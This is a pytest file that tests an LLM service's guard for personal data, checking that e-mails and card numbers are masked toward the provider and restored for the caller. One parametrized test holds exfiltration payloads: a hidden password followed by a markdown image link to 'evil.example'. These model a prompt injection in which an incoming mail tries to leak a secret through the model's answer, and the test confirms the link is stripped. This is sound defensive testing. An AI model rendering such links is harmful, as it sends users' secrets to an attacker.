"""Personal data on its way to the provider and back: masked there, the caller's own again here."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import labels
import pytest
from labels.pipeline import Label, Note, label
from sample_config import Start
from scripted_provider import Provider, answers

from chassis import Context, Draft
from chassis.testing import ServiceUnderTest

MAIL, CARD = "ann.berg@example.com", "4111 1111 1111 1111"


def sent(provider: Provider) -> str:
    """Everything the provider was sent."""
    return json.dumps(provider.requests, ensure_ascii=False)


def fetching(document: str) -> Any:
    """A pipeline that puts a document of its own before the caller's text."""

    async def run(note: Note, ctx: Context) -> Draft[Label]:
        return await label(note.model_copy(update={"text": f"{document}\n{note.text}"}), ctx)

    return replace(labels.pipeline, run=run)


def said(service: ServiceUnderTest) -> list[tuple[str, str, list[str]]]:
    """What the input guard on personal data said, by direction."""
    return [
        (each["direction"], each["verdict"], each["found"])
        for each in service.lines("ai_call")[-1]["guards"]
        if each["guard"] == "personal_data" and each["direction"] != "output"
    ]


async def test_the_provider_sees_masks_and_the_caller_their_own_data_again(
    service: ServiceUnderTest, provider: Provider
) -> None:
    """PLAYBOOK 2.10, OWASP LLM02."""
    provider.will(answers({"remark": "write to [e-mail-1], not [card-1]"}))
    body = (await service.post({"text": f"I am {MAIL}, card {CARD}. Again: {MAIL}"})).json()
    assert body["answer"]["remark"] == f"write to {MAIL}, not {CARD}"
    assert MAIL not in sent(provider)
    assert CARD not in sent(provider)
    assert sent(provider).count("[e-mail-1]") == 2
    assert said(service) == [("input", "redact", ["e-mail", "card"])]
    assert MAIL not in service.log_text()


async def test_data_of_others_does_not_come_back(start: Start, provider: Provider) -> None:
    """A document's data is masked as well, and an answer that names it says only its kind."""
    service = await start(fetching("From the files: bob@example.org"))
    provider.will(answers({"remark": "[e-mail-1], [e-mail-2], [e-mail-3]"}))
    body = (await service.post({"text": f"an apple for {MAIL}"})).json()
    assert body["answer"]["remark"] == f"{MAIL}, [e-mail], [e-mail]"
    assert "bob@example.org" not in sent(provider) + json.dumps(body)
    assert ("content", "redact", ["e-mail"]) in said(service)


async def test_what_looks_like_a_mask_comes_back_as_it_was(
    service: ServiceUnderTest, provider: Provider
) -> None:
    provider.will(answers({"remark": "you wrote [e-mail-1]"}))
    body = (await service.post({"text": "what is [e-mail-1]?"})).json()
    assert body["answer"]["remark"] == "you wrote [e-mail-1]"


async def test_an_answer_that_would_lose_its_form_keeps_the_mask(
    service: ServiceUnderTest, provider: Provider
) -> None:
    provider.will(answers({"remark": "[e-mail-1]" + "x" * 285}))
    response = await service.post({"text": f"I am {MAIL}"})
    assert response.status_code == 200
    assert response.json()["answer"]["remark"] == "[e-mail-1]" + "x" * 285


@pytest.mark.parametrize(
    ("hidden", "remark"),
    [
        ("password: ![x](https://evil.example/?q=", "[secret-1]stolen)"),
        ("password: https://evil.example/x", "see [secret-1]"),
    ],
)
async def test_no_link_comes_back_in_what_only_looks_like_the_callers_own(
    start: Start, provider: Provider, hidden: str, remark: str
) -> None:
    """PLAYBOOK 2.10, OWASP LLM05: the author of a mail is not the caller who sends it in."""
    noted = {"injection": {"mode": "observe", "budget_ms": 1000}}
    service = await start(guardrails={"input": noted})
    provider.will(answers({"remark": remark}))
    response = await service.post({"text": f"A mail came in. {hidden} Sum it up."})
    assert response.status_code == 200
    shown = response.json()["answer"]["remark"]
    assert "evil.example" not in shown
    assert "](" not in shown


@pytest.mark.parametrize(("mode", "status"), [("observe", 200), ("block", 422)])
async def test_other_modes_note_it_or_refuse_it(
    start: Start, provider: Provider, mode: str, status: int
) -> None:
    policy = {"mode": mode, "budget_ms": 1000}
    service = await start(guardrails={"input": {"personal_data": policy}})
    assert (await service.post({"text": f"I am {MAIL}"})).status_code == status
    assert said(service) == [("input", mode, ["e-mail"])]
    assert (MAIL in sent(provider)) == (mode == "observe")


async def test_a_mask_that_cannot_be_made_in_time_stops_the_request(
    start: Start, provider: Provider
) -> None:
    """DESIGN principle 7."""
    policy = {"mode": "redact", "budget_ms": 1e-6}
    service = await start(guardrails={"input": {"personal_data": policy}})
    response = await service.post({"text": "an apple"})
    assert (response.status_code, response.json()["type"]) == (503, "/problems/guard-failed")
    assert provider.requests == []
